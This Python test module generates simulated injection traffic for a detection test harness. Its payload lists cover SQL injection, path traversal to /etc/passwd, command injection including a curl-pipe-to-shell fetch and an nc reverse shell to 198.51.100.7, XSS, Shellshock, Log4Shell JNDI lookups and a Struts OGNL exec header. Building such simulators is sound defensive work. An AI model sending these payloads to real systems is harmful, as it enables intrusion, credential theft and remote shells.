"""Injection: 37 in headers, 41 in the query, 40 by a user who writes."""

from collections.abc import Iterator
from urllib.parse import quote

from tests.traffic_simulator.attacks.scene import Scene, attack
from tests.traffic_simulator.requests import Identity, Request

SQL = (
    "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE orders;--",
    "1 AND (SELECT SLEEP(5))", "admin'/**/or/**/1=1#", "1) UNION ALL SELECT NULL,NULL,version()-- -",
    "x' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--", "1;WAITFOR DELAY '0:0:5'--",
)  # fmt: skip
OTHERS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/var/www/../../etc/shadow", "; cat /etc/passwd",
    "| whoami", "$(curl http://198.51.100.7/x.sh | sh)", "`id`", "&& nc -e /bin/sh 198.51.100.7 4444",
    "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)//<svg/onload=1>",
    "A" * 6_000,
)  # fmt: skip
HEADERS = (
    ("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"),
    ("User-Agent", "${${lower:j}ndi:${lower:l}dap://198.51.100.7/o}"),
    ("User-Agent", "Mozilla/5.0' OR SLEEP(5)-- -"),
    ("X-Forwarded-For", "127.0.0.1' UNION SELECT 1,2,3-- -"),
    ("User-Agent", "<script>alert(1)</script>"),
    ("User-Agent", "() { ignored; }; echo; /usr/bin/id"),
    ("Content-Type", "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"),
)


def _written(scene: Scene) -> str:
    payload = scene.rng.choice(SQL if scene.rng.random() < 0.5 else OTHERS)
    chosen = scene.rng.random()
    once = quote(payload, safe="")
    if chosen < 0.15:
        return quote(once, safe="")
    return payload.replace(" ", "+").replace("#", "%23").replace("&", "%26") if chosen < 0.3 else once


def _with_payload(scene: Scene, request: Request) -> Request:
    field = scene.rng.choice(("q", "id", "file", "name", "sort", "next"))
    status = scene.rng.choice((200, 200, 400, 403, 500))
    return request._replace(url=f"{request.url}?{field}={_written(scene)}", status=status)


CLIENTS = ("token", "cookie", "ip")


@attack(
    41,
    kinds=CLIENTS,
    minutes=(5, 40),
    gentle="2 to 4 payloads (SQL, traversal, commands, script, overlong) in the query among 5 usual requests",
    blatant="100 to 600 payloads",
)
def in_query(scene: Scene) -> Iterator[Request]:
    """Written as sent, percent-encoded, or encoded twice."""
    identity, connection = scene.identity(), scene.rng.getrandbits(40)
    for at in scene.moments(scene.times((2, 4), (100, 600))):
        yield _with_payload(scene, scene.call(at, identity, scene.endpoint(), connection=connection))
    for at in scene.moments(5):
        yield scene.call(at, identity, scene.endpoint(), connection=connection)


@attack(
    37,
    kinds=CLIENTS,
    minutes=(5, 40),
    gentle="2 to 4 requests with a malicious header among 5 usual ones",
    blatant="100 to 600",
)
def in_headers(scene: Scene) -> Iterator[Request]:
    """Shell functions, lookups and SQL in User-Agent, X-Forwarded-For and Content-Type."""
    identity, connection = scene.identity(), scene.rng.getrandbits(40)
    for at in scene.moments(scene.times((2, 4), (100, 600))):
        name, value = scene.rng.choice(HEADERS)
        agent = value if name == "User-Agent" else identity.agent
        extra = () if name == "User-Agent" else ((name, value),)
        odd = Identity(
            identity.address, agent, identity.username, identity.token, identity.cookie, identity.api_key, extra
        )
        yield scene.call(at, odd, scene.endpoint(), connection=connection)
    for at in scene.moments(5):
        yield scene.call(at, identity, scene.endpoint(), connection=connection)


@attack(
    40,
    kinds=("username",),
    minutes=(10, 50),
    gentle="8 to 15 writes with a payload in the query, at a usual rate",
    blatant="200 to 800",
)
def by_user(scene: Scene) -> Iterator[Request]:
    """A user who writes what others' browsers and databases will execute."""
    person, connection = scene.insider(), scene.rng.getrandbits(40)
    for at in scene.moments(scene.times((8, 15), (200, 800))):
        endpoint = scene.endpoint(method=scene.rng.choice(("POST", "PUT")))
        yield _with_payload(scene, scene.call(at, scene.identity_of(person, at), endpoint, connection=connection))
